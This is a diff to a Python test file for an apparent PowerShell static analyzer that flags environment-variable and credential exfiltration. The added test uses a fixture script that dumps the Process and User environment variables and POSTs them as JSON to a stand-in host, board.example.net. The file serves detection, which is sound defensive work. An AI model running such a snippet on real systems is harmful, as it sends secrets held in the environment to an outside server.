@@ -36,7 +36,7 @@ def test_powershell_environment_dump_inside_an_assignment_and_a_pipeline() -> No
     assert "env.read[*]" in got["shell-env-read"]
     f = facts("$x = 1\n$e = [Environment]::GetEnvironmentVariables()")
     assert [(x.row, x.rule) for x in f] == [(1, "shell-env-read")]
-    assert "`[Environment]::GetEnvironmentVariables()`" in f[0].message
+    assert "`[Environment]::GetEnvironmentVariables`" in f[0].message
 
 
 def test_powershell_credential_reads_dpapi_credential_manager_and_locker() -> None:
@@ -79,6 +79,21 @@ def test_a_powershell_variable_holding_the_environment_or_credentials_sent_to_a_
     sent = [(f.row, f.capabilities) for f in facts(text) if f.rule == "shell-env-exfiltration"]
     assert sent == [(1, ("env.read[*]", "net.egress[c.example.net]")),
                     (4, ("secrets.read[keychain]", "net.egress[d.example.org]"))]
+
+
+def test_a_powershell_dump_stored_into_an_element_or_a_member_is_sent_to_the_url_variable() -> None:
+    text = ("$Board = 'https://board.example.net/api'\n"
+            "$vars = @{}\n"
+            "foreach ($s in 'Process', 'User') { $vars[$s] = [Environment]::GetEnvironmentVariables($s) }\n"
+            "$report = [ordered]@{}\n"
+            "$report.variables = $vars\n"
+            "Invoke-RestMethod -Uri $Board -Method Post -Body ($report | ConvertTo-Json)\n"
+            "$sizes = @{}\n"
+            "$sizes.total = $vars.Count\n"
+            "Invoke-RestMethod -Uri $Board -Method Post -Body ($sizes | ConvertTo-Json)\n")
+    sent = [f for f in facts(text) if f.rule == "shell-env-exfiltration"]
+    assert [(f.row, f.capabilities) for f in sent] == [(5, ("env.read[*]", "net.egress[board.example.net]"))]
+    assert "sends `$report`, which holds the whole environment, to board.example.net" in sent[0].message
 
 
 def test_a_powershell_upload_of_other_data_is_not_exfiltration() -> None:
